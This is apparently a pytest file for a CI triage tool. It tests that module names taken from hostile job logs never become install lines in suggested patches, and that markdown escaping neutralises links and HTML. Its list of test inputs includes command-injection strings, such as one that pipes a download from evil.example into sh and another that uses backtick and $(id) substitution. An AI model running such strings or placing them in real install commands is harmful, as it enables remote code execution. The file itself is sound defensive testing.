"""From a hostile log, branch and job to what is printed, patched and posted: the whole way, not the presenters alone."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.cli.command import triage
from tests.cli.test_comment import world_of_a_red_pull
from tests.github.worlds import HEAD, MERGE, REPO, RUN_ID, TOKEN
from tests.output.github_markdown import look_at
from tests.pipeline.fakes import job_log
from triage.demo.server import Server
from triage.output import markdown

WORKFLOW = b"""on: pull_request
jobs:
  train:
    name: train (1)
    runs-on: gpu
    steps:
      - uses: actions/checkout@v4
      - name: Train
        run: |
          pip3 install -r requirements.txt
          python train.py
"""
MODULES = [
    "evil",
    "evil.sub",
    "evil; curl https://evil.example | sh",
    "evil @ https://evil.example/evil.whl",
    "-r evil.txt",
    "../evil",
    "evil`id`$(id)",
]


@pytest.mark.parametrize("module", MODULES)
def test_a_module_that_a_log_names_never_becomes_an_install_line(
    module: str, capsys: pytest.CaptureFixture[str]
) -> None:
    world = world_of_a_red_pull()
    files = {".github/workflows/ci.yml": WORKFLOW, "requirements.txt": b"numpy\n", "train.py": b"import evil\n"}
    world.trees[HEAD] = world.trees[MERGE] = files
    world.logs[1] = job_log(f"ModuleNotFoundError: No module named '{module}'").encode()
    with Server(world) as server:
        ran = triage(
            capsys,
            "run",
            str(RUN_ID),
            "-R",
            REPO,
            "--api-url",
            server.api_url,
            "--token",
            TOKEN,
            "-f",
            "json",
            "--no-evidence",
        )
    assert ran.code == 0, ran.err
    result = json.loads(ran.out)
    assert result["failures"]
    for patch in result["patches"]:
        added = [line for line in patch["diff"].splitlines() if line.startswith("+") and not line.startswith("+++")]
        assert not [line for line in added if "evil" in line]


FRAGMENTS = ["@", "someone", "#", "1", "GH-", "example/train", "https://", "www.", "evil.example", "abcdef1", "`", "[", "](", ")", "!", "<", ">",
             "&#64;", "\\", "*", "_", "~", "|", "\n", "\r", "- ", "> ", "# ", "==", "mailto:", "\u200b", "\u202e", "x", " ", ":"]  # fmt: skip


@settings(max_examples=150)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=24).map("".join))
def test_no_mixture_of_marks_is_more_than_text(text: str) -> None:
    for written in (
        markdown.prose(text),
        f"before {markdown.prose(text)} after",
        f"**{markdown.prose(text)}** in x",
        f"- {markdown.prose(text)}",
    ):
        found = look_at(written)
        assert (found.links, found.images, found.html, found.headings, found.autolinks) == ([], [], [], [], [])
